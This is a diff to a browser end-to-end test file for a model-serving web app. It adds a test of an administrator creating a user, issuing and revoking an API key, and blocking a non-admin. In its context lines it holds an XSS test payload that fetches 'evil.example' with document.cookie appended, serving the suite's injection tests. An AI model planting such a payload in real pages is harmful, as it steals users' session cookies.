@@ -407,6 +407,58 @@ def test_from_a_table_to_a_tuned_model_beside_its_base(browser: Browser, tmp_pat
         opened.close()
 
 
+def test_an_administrator_lets_people_in_and_out(browser: Browser, tmp_path: Path, models: Path) -> None:
+    home = tmp_path / "home"
+    with Workspace(home) as workspace:
+        workspace.identities.create_user("eva", role="admin")
+        workspace.identities.create_user("rob", role="reader")
+        keys = {who: workspace.identities.create_key(who, user=who, role="admin")[1] for who in ("eva", "rob")}
+        with server(home) as root:
+            opened = Watched(browser, root)
+            page = opened.page
+            page.goto(f"{root}/app/server")
+            page.get_by_label("Your key").fill(keys["eva"])
+            page.get_by_role("button", name="Sign in").click()
+            expect(page.locator("form.choices")).to_have_count(2)
+            people_form, keys_form = page.locator("form.choices").all()
+            people_form.get_by_label("Name").fill("ana")
+            people_form.get_by_label("Groups").fill("hr, legal")
+            people_form.get_by_label("Dollars a month").fill("much")
+            people_form.get_by_role("button").click()
+            expect(page.get_by_text("this cannot be: ana, reader")).to_be_visible()
+            people_form.get_by_label("Dollars a month").fill("5")
+            people_form.get_by_role("button").click()
+            expect(page.get_by_role("row", name=re.compile("ana.*hr, legal.*5.00"))).to_be_visible()
+            keys_form.get_by_label("Name").fill("ana-1")
+            keys_form.get_by_label("For whom").fill("ana")
+            keys_form.get_by_label("Days").fill("30")
+            keys_form.get_by_role("button").click()
+            secret = page.locator(".secret")
+            expect(secret).to_contain_text("graft-")
+            theirs = secret.inner_text()
+            assert httpx.get(f"{root}/v1/models", headers={"Authorization": f"Bearer {theirs}"}).status_code == 200
+            page.get_by_label("Revoke ana-1").click()
+            page.get_by_role("button", name="Yes").click()
+            expect(page.get_by_label("Revoke ana-1")).to_have_count(0)
+            assert httpx.get(f"{root}/v1/models", headers={"Authorization": f"Bearer {theirs}"}).status_code == 401
+            page.get_by_label("Remove ana").click()
+            page.get_by_role("button", name="Yes").click()
+            expect(page.get_by_label("Remove ana")).to_have_count(0)
+            page.get_by_role("button", name="Check everything").click()
+            expect(page.get_by_text("are whole.")).to_be_visible(timeout=60_000)
+            done = (home / "audit.jsonl").read_text() if (home / "audit.jsonl").exists() else ""
+            assert "users remove" in done and theirs not in done
+            opened.close()
+
+            other = Watched(browser, root)
+            other.page.goto(f"{root}/app/server")
+            other.page.get_by_label("Your key").fill(keys["rob"])
+            other.page.get_by_role("button", name="Sign in").click()
+            expect(other.page.get_by_text("This is for administrators")).to_be_visible()
+            expect(other.page.get_by_role("link", name="Server")).to_have_count(0)
+            other.close()
+
+
 RUN = "window.pwned = 1; fetch('https://evil.example/' + document.cookie)"
 ATTACKS = tuple(
     form.replace("RUN", RUN)
@@ -560,7 +612,7 @@ def test_nothing_serious_stands_in_the_way_of_anybody(
 ) -> None:
     opened = Watched(browser, root, color_scheme=scheme, viewport={"width": 360, "height": 740})
     page = opened.page
-    for path in ("/app/", "/app/documents", "/app/tune", "/app/sign-in"):
+    for path in ("/app/", "/app/documents", "/app/tune", "/app/server", "/app/sign-in"):
         page.goto(root + path)
         page.wait_for_load_state("networkidle")
         if path == "/app/":
